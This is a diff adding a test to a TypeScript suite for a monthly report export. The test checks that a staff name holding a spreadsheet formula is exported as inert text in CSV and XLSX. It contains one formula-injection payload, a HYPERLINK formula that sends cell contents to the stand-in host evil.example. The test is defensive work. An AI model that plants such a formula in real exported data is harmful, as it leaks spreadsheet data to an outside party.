@@ -3,6 +3,8 @@ import { ErrorCode, MonthlyReportView, nextPeriod, previousPeriod, reportDueAt }
 import { expectRefused, login } from '../testing/api-fixtures';
 import { startPaymentsTestApp } from '../testing/payment-fixtures';
 import { TestApp } from '../testing/test-app';
+import { DataSource } from 'typeorm';
+import { Staff } from '../staff/staff.entity';
 import {
   RATING_FACTS,
   RETURN_VISIT_FACTS,
@@ -247,5 +249,37 @@ describe('monthly report', () => {
     expect(text).toContain(
       '【工单分类】\r\n工单类型,片区,数量\r\n一般报修,城东片区,2\r\n投诉,城东片区,1\r\n投诉,城西片区,1\r\n合计,,4\r\n',
     );
+  });
+
+  it('a name that a spreadsheet would run as a formula is exported as text, in CSV and XLSX', async () => {
+    t.setNow(afterMonth());
+    const formula = '=HYPERLINK("https://evil.example/?"&A1,"查看")';
+    const staff = t.app.get(DataSource).getRepository(Staff);
+    const tech1 = await staff.findOneByOrFail({ username: 'tech1' });
+    await staff.update({ id: tech1.id }, { name: formula });
+    const regenerate = async () =>
+      expect(
+        (
+          await t
+            .http()
+            .post('/api/reports/monthly/regenerate')
+            .set('Authorization', await login(t, 'admin'))
+            .send({ period: fixturePeriod() })
+        ).status,
+      ).toBe(200);
+    await regenerate();
+    try {
+      const csv = (await download('csv')).body.subarray(3).toString('utf8');
+      expect(csv).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""查看"")",维修工`);
+      expect(csv).not.toMatch(/(^|,)"?=HYPERLINK/m);
+      const book = new ExcelJS.Workbook();
+      await book.xlsx.load((await download('xlsx')).body);
+      const cells = book.getWorksheet('人员')!.getColumn(1).values;
+      // ExcelJS writes a string as a string cell, never a formula: the name reads back as typed.
+      expect(cells).toContain(formula);
+    } finally {
+      await staff.update({ id: tech1.id }, { name: tech1.name });
+      await regenerate();
+    }
   });
 });
